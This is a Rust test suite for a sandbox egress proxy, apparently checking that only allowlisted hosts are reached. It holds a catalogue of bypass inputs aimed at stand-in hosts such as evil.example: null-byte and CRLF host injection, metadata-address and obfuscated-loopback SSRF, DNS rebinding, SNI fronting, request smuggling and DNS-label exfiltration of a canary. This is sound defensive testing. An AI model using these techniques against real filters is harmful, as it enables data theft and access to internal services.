//! The way out: what is on the list is reached, and nothing else is, whatever a client says.
//!
//! Each row runs a real client in a real sandbox and looks at what arrived on the other side. The network is the tests' own:
//! names have the addresses given here, and every address leads to a server of this process that remembers what it got.

use std::collections::HashMap;
use std::fs;
use std::io::{self, Read, Write};
use std::net::{IpAddr, Ipv4Addr, Shutdown, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::process::ExitCode;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use libtest_mimic::Trial;
use wright_sandbox::egress::{AllowedHost, Egress, EgressPolicy, EgressRecord, EgressRefusal, HostName, Network};
use wright_sandbox::{Command, Exit, LayerKind, Outcome, Policy, SandboxError};

use crate::{CLIENT, Test, Tree, sandbox, sandbox_without, this_program, trial};

/// What must not leave.
const CANARY: &str = "canary-77b0d1";

/// Where the proxy is inside.
const PROXY: (Ipv4Addr, u16) = (Ipv4Addr::LOCALHOST, 3128);

/// What the client does.
#[derive(Debug, Clone)]
enum Ask {
    /// Sends bytes to the proxy; after its answer, sends the second ones.
    Raw(Vec<u8>, Vec<u8>),
    /// Fetches a plain address and follows where it leads.
    Follow(&'static str),
    /// Sends a datagram with the secret to port 53 of an address.
    Datagram(&'static str),
    /// Opens a socket for echo requests.
    Ping,
}

/// What should not happen, and how it is tried.
struct Row {
    id: &'static str,
    title: &'static str,
    allowed: &'static [&'static str],
    ask: Ask,
}

fn row(id: &'static str, title: &'static str, allowed: &'static [&'static str], ask: Ask) -> Row {
    Row { id, title, allowed, ask }
}

const GOOD: &[&str] = &["good.example"];

/// A request that brings the secret to `target`: through a tunnel, whose server's name is `name`.
fn connect(target: &str, name: &str) -> Ask {
    let hello = client_hello(Some(name), &[]);
    Ask::Raw(format!("CONNECT {target} HTTP/1.1\r\n\r\n").into_bytes(), [hello, CANARY.into()].concat())
}

/// A plain request that brings the secret along.
fn get(target: &str) -> Ask {
    Ask::Raw(format!("GET {target} HTTP/1.1\r\nHost: good.example\r\nX: {CANARY}\r\n\r\n").into_bytes(), Vec::new())
}

fn rows() -> Vec<Row> {
    let fronted = |name, further: &[u16]| {
        let hello = client_hello(name, further);
        Ask::Raw(b"CONNECT good.example:443 HTTP/1.1\r\n\r\n".to_vec(), [hello, CANARY.into()].concat())
    };
    let mut rows = vec![
        row(
            "E1",
            "a zero byte before an allowed ending",
            GOOD,
            connect("evil.example\0.good.example:443", "evil.example"),
        ),
        row("E1", "a zero byte in a plain request", GOOD, get("http://evil.example\0.good.example/")),
        row("E1", "a line break in the host", GOOD, get("http://evil.example\r\n.good.example/")),
        row("E1", "a user's name that looks like the host", GOOD, get("http://good.example@evil.example/")),
        row("E1", "a percent sign in the host", GOOD, get("http://evil.example%2f.good.example/")),
        row("E1", "a backslash in the host", GOOD, get("http://evil.example\\.good.example/")),
        row("E2", "an allowed name as the ending", GOOD, connect("evil-good.example:443", "evil-good.example")),
        row(
            "E2",
            "an allowed name as the beginning",
            GOOD,
            connect("good.example.evil.example:443", "good.example.evil.example"),
        ),
        row("E2", "a name below an allowed one", GOOD, connect("sub.good.example:443", "sub.good.example")),
        row("E3", "a foreign name with dot and case", GOOD, connect("EVIL.example.:443", "evil.example")),
        row("E3", "letters that look like others", GOOD, get("http://g\u{43e}\u{43e}d.example/")),
        row("E3", "the same, encoded", GOOD, connect("xn--gd-jlca.example:443", "xn--gd-jlca.example")),
        row("E5", "a name that leads to this machine", &["loop.example"], get("http://loop.example/")),
        row("E5", "a name that leads to a private network", &["private.example"], get("http://private.example/")),
        row("E5", "a name that leads to the metadata service", &["metadata.example"], get("http://metadata.example/")),
        row("E5", "a name that leads here in IPv6 clothes", &["mapped.example"], get("http://mapped.example/")),
        row("E5", "one bad address among good ones", &["mixed.example"], get("http://mixed.example/")),
        row("E6", "a redirect to a foreign host", &["redirect.example"], Ask::Follow("http://redirect.example/")),
        row("E6", "another host inside the tunnel", GOOD, fronted(Some("evil.example"), &[])),
        row("E6", "no host inside the tunnel", GOOD, fronted(None, &[])),
        row("E6", "a hidden host inside the tunnel", GOOD, fronted(Some("good.example"), &[0xfe0d])),
        row(
            "E6",
            "plain text inside the tunnel",
            GOOD,
            Ask::Raw(
                b"CONNECT good.example:443 HTTP/1.1\r\n\r\n".to_vec(),
                format!("GET / HTTP/1.1\r\nHost: {CANARY}\r\n\r\n").into_bytes(),
            ),
        ),
        row("E6", "another port", GOOD, connect("good.example:22", "good.example")),
        row("E7", "a secret in a name that is looked up", GOOD, get(&format!("http://{CANARY}.evil.example/"))),
        row("E7", "a secret in a name below an allowed one", GOOD, get(&format!("http://{CANARY}.good.example/"))),
        row("E7", "asking a name server directly", GOOD, Ask::Datagram("8.8.8.8")),
        row("E7", "ping", GOOD, Ask::Ping),
        row("E8", "an empty list", &[], get("http://good.example/")),
        row(
            "E8",
            "posting",
            GOOD,
            Ask::Raw(
                format!("POST http://good.example/ HTTP/1.1\r\nContent-Length: 13\r\n\r\n{CANARY}").into_bytes(),
                Vec::new(),
            ),
        ),
        row(
            "E8",
            "a body in a request that has none",
            GOOD,
            Ask::Raw(
                format!("GET http://good.example/ HTTP/1.1\r\nContent-Length: 13\r\n\r\n{CANARY}").into_bytes(),
                Vec::new(),
            ),
        ),
        row(
            "E8",
            "a second request behind the first",
            GOOD,
            Ask::Raw(
                format!("GET http://good.example/ HTTP/1.1\r\n\r\nPOST /{CANARY} HTTP/1.1\r\n\r\n").into_bytes(),
                Vec::new(),
            ),
        ),
        row("E8", "more than the budget", GOOD, get(&format!("http://good.example/{}", "a".repeat(9_000)))),
    ];
    let addresses = [
        "127.0.0.1",
        "127.1",
        "0x7f.1",
        "0x7f000001",
        "2130706433",
        "017700000001",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "169.254.169.254",
        "10.0.0.1",
        "8.8.8.8",
        "localhost",
    ];
    for address in addresses {
        let title = Box::leak(format!("the address {address}").into_boxed_str());
        rows.push(row("E4", title, GOOD, get(&format!("http://{address}/"))));
    }
    rows
}

/// One test per row.
pub(crate) fn trials() -> impl Iterator<Item = Trial> {
    rows().into_iter().map(|row| {
        let name = row.title.replace([' ', '-', '.'], "_").replace(['\'', ',', '[', ']', ':'], "");
        trial(format!("escapes::{}_{name}_does_not_get_out", row.id.to_lowercase()), move || check(&row))
    })
}

fn check(row: &Row) {
    let control = control(&row.ask);
    let world = World::new();
    let mut policy = policy(row.allowed);
    policy.max_bytes_up = 8_000;
    let (outcome, records) = world.run(policy, &row.ask);
    let got = world.received();
    let looked_up = world.looked_up();
    let is_through = got.contains(CANARY) || looked_up.iter().any(|it| it.contains(CANARY) || it.contains("evil"));
    report(row, control, is_through);
    assert!(!is_through, "{}: {outcome:?}\n{records:?}\n{got}\n{looked_up:?}", outcome.text());
    let must_be_recorded = matches!(row.ask, Ask::Raw(..) | Ask::Follow(_));
    assert_eq!(records.iter().any(|it| it.refusal.is_some()), must_be_recorded, "{records:?}\n{}", outcome.text());
}

/// Does the same outside: the secret arrives, so it is the sandbox and its proxy that stop it.
fn control(ask: &Ask) -> &'static str {
    let server = Server::start("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello");
    match ask {
        Ask::Raw(first, second) => {
            let mut stream = TcpStream::connect(server.address).unwrap();
            stream.write_all(&[&first[..], second].concat()).unwrap();
            drop(stream);
        }
        Ask::Follow(_) => TcpStream::connect(server.address).unwrap().write_all(CANARY.as_bytes()).unwrap(),
        Ask::Datagram(_) => {
            let socket = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
            let own = socket.local_addr().unwrap();
            assert!(send_datagram(own).is_ok());
            assert_eq!(socket.recv(&mut [0; 64]).unwrap(), CANARY.len());
            return "succeeds";
        }
        Ask::Ping => {
            return match open_ping() {
                Ok(()) => "succeeds",
                Err(_) => "not possible here: this user may not open sockets for echo requests",
            };
        }
    }
    server.wait_for(if matches!(ask, Ask::Follow(_)) { CANARY } else { "" });
    "succeeds"
}

fn report(row: &Row, control: &str, is_through: bool) {
    let Some(path) = std::env::var_os("WRIGHT_ESCAPE_REPORT") else { return };
    // SAFETY: asking who one is.
    let who = if unsafe { libc::geteuid() } == 0 { "root" } else { "user" };
    let result = if is_through { "through" } else { "blocked" };
    let line =
        serde_json::json!({ "id": row.id, "who": who, "control": control, "result": result, "title": row.title });
    let mut file = fs::OpenOptions::new().create(true).append(true).open(path).unwrap();
    file.write_all(format!("{line}\n").as_bytes()).unwrap();
}

pub(crate) const TESTS: &[Test] = &[
    ("a_listed_host_is_reached_by_plain_requests", || {
        let world = World::new();
        let (outcome, records) = world.run(policy(GOOD), &get("http://Good.example./package?v=1"));
        assert!(outcome.text().contains("hello"), "{}\n{records:?}", outcome.text());
        assert!(world.received().contains("GET /package?v=1 HTTP/1.1\r\nHost: good.example\r\n"));
        assert_eq!(world.looked_up(), ["good.example"]);
        let [record] = &records[..] else { panic!("{records:?}") };
        assert_eq!((record.method.as_str(), record.refusal), ("GET", None));
        assert!(record.bytes_up > 40 && record.bytes_down > 5, "{record:?}");
    }),
    ("a_listed_host_is_reached_through_a_tunnel_to_the_same_host", || {
        let world = World::new();
        let (outcome, records) = world.run(policy(GOOD), &connect("good.example:443", "good.example"));
        assert!(outcome.text().contains("200 Connection established"), "{}", outcome.text());
        assert!(outcome.text().contains("hello"), "{}\n{records:?}", outcome.text());
        assert!(world.received().contains(CANARY));
    }),
    ("a_listed_host_of_a_company_may_lie_in_its_network_and_never_on_this_machine", || {
        let world = World::new();
        let list = |name| vec![AllowedHost::parse(name).unwrap().in_private_network()];
        let (outcome, records) = world.run(EgressPolicy::new(list("private.example")), &get("http://private.example/"));
        assert!(outcome.text().contains("hello"), "{}\n{records:?}", outcome.text());
        let (_, records) = world.run(EgressPolicy::new(list("loop.example")), &get("http://loop.example/"));
        assert_eq!(records[0].refusal, Some(EgressRefusal::Address { what: "this machine" }));
    }),
    ("a_name_that_changes_its_address_is_connected_to_where_it_was_judged", || {
        let world = World::new();
        let (outcome, _) = world.run(policy(&["rebinding.example"]), &get("http://rebinding.example/"));
        assert!(outcome.text().contains("hello"), "{}", outcome.text());
        assert_eq!(world.looked_up(), ["rebinding.example"]);
        assert_eq!(world.connected(), ["93.184.216.34:80"]);
        // The second look finds this machine.
        let (_, records) = world.run(policy(&["rebinding.example"]), &get("http://rebinding.example/"));
        assert_eq!(records[0].refusal, Some(EgressRefusal::Address { what: "this machine" }));
    }),
    ("what_comes_back_is_counted_and_cut_at_the_budget", || {
        let world = World::new();
        let policy = EgressPolicy { max_bytes_down: 10, ..policy(GOOD) };
        let (outcome, records) = world.run(policy, &get("http://good.example/"));
        assert!(!outcome.text().contains("hello"), "{}", outcome.text());
        assert_eq!(records[0].refusal, Some(EgressRefusal::OverBudget));
    }),
    ("a_connection_that_never_ends_is_cut", || {
        let world = World::new();
        let policy = EgressPolicy { max_connection_time: Duration::from_millis(300), ..policy(GOOD) };
        let (_, records) = world.run(policy, &Ask::Raw(b"GET http://good.example/ HTT".to_vec(), Vec::new()));
        assert_eq!(records[0].refusal, Some(EgressRefusal::TimeOver));
    }),
    ("the_clients_that_people_use_find_the_proxy", || {
        let world = World::new();
        for program in [
            "curl -sS --max-time 10 http://good.example/ || true; curl -sS --max-time 10 http://127.0.0.1:1/ || true",
            "python3 -c 'import urllib.request as u\nfor a in (\"good.example\", \"127.0.0.1:1\"):\n  \
             try: print(u.urlopen(\"http://\" + a, timeout=10).read())\n  except Exception as e: print(e)'",
        ] {
            let (outcome, records) = world.run_command(policy(GOOD), &Command::new(["sh", "-c", program]), Vec::new());
            if outcome.text().contains("not found") {
                assert!(!crate::is_ci(), "{}", outcome.text());
                continue;
            }
            assert!(outcome.text().contains("hello"), "{}\n{records:?}", outcome.text());
            let refused: Vec<&EgressRecord> = records.iter().filter(|it| it.refusal.is_some()).collect();
            assert_eq!(refused.len(), 1, "{records:?}");
            assert!(refused[0].target.contains("127.0.0.1:1"), "{records:?}");
        }
    }),
    ("a_machine_without_namespaces_has_no_way_out", || {
        let sandbox = sandbox_without(&[LayerKind::Namespaces]);
        let tree = Tree::new();
        let runtime = tokio::runtime::Runtime::new().unwrap();
        let egress = Egress::new(policy(GOOD));
        let (policy, command) = (tree.policy(), Command::new(["true"]));
        let outcome = runtime.block_on(sandbox.run_with_egress(&policy, &command, &egress));
        assert!(matches!(outcome, Err(SandboxError::LevelTooLow { .. })));
    }),
    ("without_an_egress_policy_there_is_no_proxy", || {
        let tree = Tree::new();
        let script = "env | grep -i proxy; exec 3<>/dev/tcp/127.0.0.1/3128";
        let outcome = crate::run(sandbox(), &tree.policy(), &Command::new(["bash", "-c", script]));
        assert_eq!(outcome.exit, Exit::Code(1), "{}", outcome.text());
        assert!(!outcome.text().to_lowercase().contains("_proxy"), "{}", outcome.text());
    }),
];

fn policy(allowed: &[&str]) -> EgressPolicy {
    EgressPolicy::new(allowed.iter().map(|it| AllowedHost::parse(it).unwrap()).collect())
}

/// Names, their addresses, and the server behind them.
struct World {
    network: Arc<TestNetwork>,
}

struct TestNetwork {
    names: HashMap<&'static str, Vec<&'static str>>,
    server: Server,
    redirect: Server,
    looked_up: Mutex<Vec<String>>,
    connected: Mutex<Vec<SocketAddr>>,
}

const PUBLIC: &str = "93.184.216.34";
const REDIRECTING: &str = "93.184.216.35";

impl World {
    fn new() -> Self {
        let names = HashMap::from([
            ("good.example", vec![PUBLIC]),
            ("evil.example", vec![PUBLIC]),
            ("redirect.example", vec![REDIRECTING]),
            ("loop.example", vec!["127.0.0.1"]),
            ("private.example", vec!["10.1.2.3"]),
            ("metadata.example", vec!["169.254.169.254"]),
            ("mapped.example", vec!["::ffff:127.0.0.1"]),
            ("mixed.example", vec![PUBLIC, "192.168.0.1"]),
        ]);
        let found = "HTTP/1.1 302 Found\r\nLocation: http://evil.example/\r\nContent-Length: 0\r\n\r\n";
        Self {
            network: Arc::new(TestNetwork {
                names,
                server: Server::start("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"),
                redirect: Server::start(found),
                looked_up: Mutex::default(),
                connected: Mutex::default(),
            }),
        }
    }

    fn run(&self, policy: EgressPolicy, ask: &Ask) -> (Outcome, Vec<EgressRecord>) {
        let folder = Tree::new();
        fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
        let program = folder.file("it");
        fs::hard_link(this_program(), &program).or_else(|_| fs::copy(this_program(), &program).map(drop)).unwrap();
        let mut words = vec![program.display().to_string(), CLIENT.to_owned()];
        words.extend(match ask {
            Ask::Raw(first, second) => vec!["raw".to_owned(), hex(first), hex(second)],
            Ask::Follow(url) => vec!["follow".to_owned(), (*url).to_owned()],
            Ask::Datagram(address) => vec!["datagram".to_owned(), (*address).to_owned()],
            Ask::Ping => vec!["ping".to_owned()],
        });
        self.run_command(policy, &Command::new(words), vec![program])
    }

    fn run_command(
        &self,
        policy: EgressPolicy,
        command: &Command,
        read_only: Vec<std::path::PathBuf>,
    ) -> (Outcome, Vec<EgressRecord>) {
        let tree = Tree::new();
        let egress = Egress::over(policy, Arc::clone(&self.network) as Arc<dyn Network>);
        let sandbox_policy = Policy { read_only, ..tree.policy() };
        let runtime = tokio::runtime::Runtime::new().unwrap();
        runtime.block_on(sandbox().run_with_egress(&sandbox_policy, command, &egress)).unwrap()
    }

    fn received(&self) -> String {
        let all = [&self.network.server, &self.network.redirect].map(|it| it.received.lock().unwrap().clone());
        String::from_utf8_lossy(&all.concat()).into_owned()
    }

    fn looked_up(&self) -> Vec<String> {
        self.network.looked_up.lock().unwrap().clone()
    }

    fn connected(&self) -> Vec<String> {
        self.network.connected.lock().unwrap().iter().map(ToString::to_string).collect()
    }
}

#[async_trait::async_trait]
impl Network for TestNetwork {
    async fn resolve(&self, host: &HostName) -> io::Result<Vec<IpAddr>> {
        let mut looked_up = self.looked_up.lock().unwrap();
        looked_up.push(host.to_string());
        if host.as_str() == "rebinding.example" {
            let address = if looked_up.len() == 1 { PUBLIC } else { "127.0.0.1" };
            return Ok(vec![address.parse().unwrap()]);
        }
        let addresses = self.names.get(host.as_str()).ok_or(io::ErrorKind::NotFound)?;
        Ok(addresses.iter().map(|it| it.parse().unwrap()).collect())
    }

    async fn connect(&self, address: SocketAddr) -> io::Result<tokio::net::TcpStream> {
        self.connected.lock().unwrap().push(address);
        let server = if address.ip().to_string() == REDIRECTING { &self.redirect } else { &self.server };
        tokio::net::TcpStream::connect(server.address).await
    }
}

/// A server that remembers what it got and always answers the same.
struct Server {
    address: SocketAddr,
    received: Arc<Mutex<Vec<u8>>>,
}

impl Server {
    fn start(answer: &'static str) -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let address = listener.local_addr().unwrap();
        let received = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&received);
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut buffer = [0; 16 * 1024];
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                if let Ok(n_bytes) = stream.read(&mut buffer) {
                    kept.lock().unwrap().extend_from_slice(&buffer[..n_bytes]);
                }
                let _ = stream.write_all(answer.as_bytes());
                let _ = stream.shutdown(Shutdown::Write);
            }
        });
        Self { address, received }
    }

    /// Waits until something that contains `text` came.
    fn wait_for(&self, text: &str) {
        for _ in 0..1_000 {
            let got = self.received.lock().unwrap().clone();
            if !got.is_empty() && String::from_utf8_lossy(&got).contains(text) {
                return;
            }
            thread::sleep(Duration::from_millis(5));
        }
        panic!("nothing came");
    }
}

/// What this program is when it is the client inside.
pub(crate) fn client(args: &[String]) -> ExitCode {
    let result = match args[0].as_str() {
        "raw" => raw(&unhex(&args[1]), &unhex(&args[2])),
        "follow" => follow(&args[1]),
        "datagram" => send_datagram(SocketAddr::new(args[1].parse().unwrap(), 53)),
        _ => open_ping(),
    };
    println!("{result:?}");
    ExitCode::from(u8::from(result.is_err()))
}

fn raw(first: &[u8], second: &[u8]) -> io::Result<()> {
    let mut stream = TcpStream::connect(PROXY)?;
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    stream.write_all(first)?;
    if !second.is_empty() {
        let mut answer = Vec::new();
        while !answer.ends_with(b"\r\n\r\n") {
            let mut byte = [0];
            stream.read_exact(&mut byte)?;
            answer.push(byte[0]);
        }
        print!("{}", String::from_utf8_lossy(&answer));
        stream.write_all(second)?;
    }
    let mut answer = Vec::new();
    let end = stream.read_to_end(&mut answer);
    println!("{}", String::from_utf8_lossy(&answer));
    end.map(drop)
}

fn follow(url: &str) -> io::Result<()> {
    let mut url = url.to_owned();
    for _ in 0..3 {
        let mut stream = TcpStream::connect(PROXY)?;
        stream.write_all(format!("GET {url} HTTP/1.1\r\nX: hop\r\n\r\n").as_bytes())?;
        let mut answer = String::new();
        stream.read_to_string(&mut answer)?;
        println!("{answer}");
        let Some(next) = answer.lines().find_map(|it| it.strip_prefix("Location: ")) else { return Ok(()) };
        url = format!("{next}{CANARY}");
    }
    Ok(())
}

fn send_datagram(to: SocketAddr) -> io::Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.send_to(CANARY.as_bytes(), to).map(drop)
}

fn open_ping() -> io::Result<()> {
    // SAFETY: plain numbers.
    let socket = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP) };
    if socket < 0 { Err(io::Error::last_os_error()) } else { Ok(()) }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|it| format!("{it:02x}")).collect()
}

fn unhex(text: &str) -> Vec<u8> {
    (0..text.len() / 2).map(|it| u8::from_str_radix(&text[it * 2..it * 2 + 2], 16).unwrap()).collect()
}

/// Returns the first message of an encrypted connection to `name`.
fn client_hello(name: Option<&str>, further: &[u16]) -> Vec<u8> {
    let vector = |width: usize, bytes: &[u8]| [&(bytes.len() as u32).to_be_bytes()[4 - width..], bytes].concat();
    let extension = |kind: u16, bytes: &[u8]| [&kind.to_be_bytes()[..], &vector(2, bytes)].concat();
    let mut extensions = Vec::new();
    if let Some(name) = name {
        extensions.extend(extension(0, &vector(2, &[&[0], &vector(2, name.as_bytes())[..]].concat())));
    }
    extensions.extend(extension(10, &vector(2, &[0, 29])));
    extensions.extend(extension(13, &vector(2, &[4, 3])));
    extensions.extend(extension(43, &vector(1, &[3, 4])));
    extensions.extend(extension(51, &vector(2, &[&[0, 29][..], &vector(2, &[7; 32])].concat())));
    further.iter().for_each(|&kind| extensions.extend(extension(kind, &[0, 0, 1, 0, 1, 7, 0, 0, 0, 1, 9])));
    let body =
        [&[3, 3][..], &[9; 32], &vector(1, &[]), &vector(2, &[0x13, 0x01]), &vector(1, &[0]), &vector(2, &extensions)]
            .concat();
    let message = [&[1][..], &vector(3, &body)].concat();
    [&[22, 3, 1][..], &vector(2, &message)].concat()
}
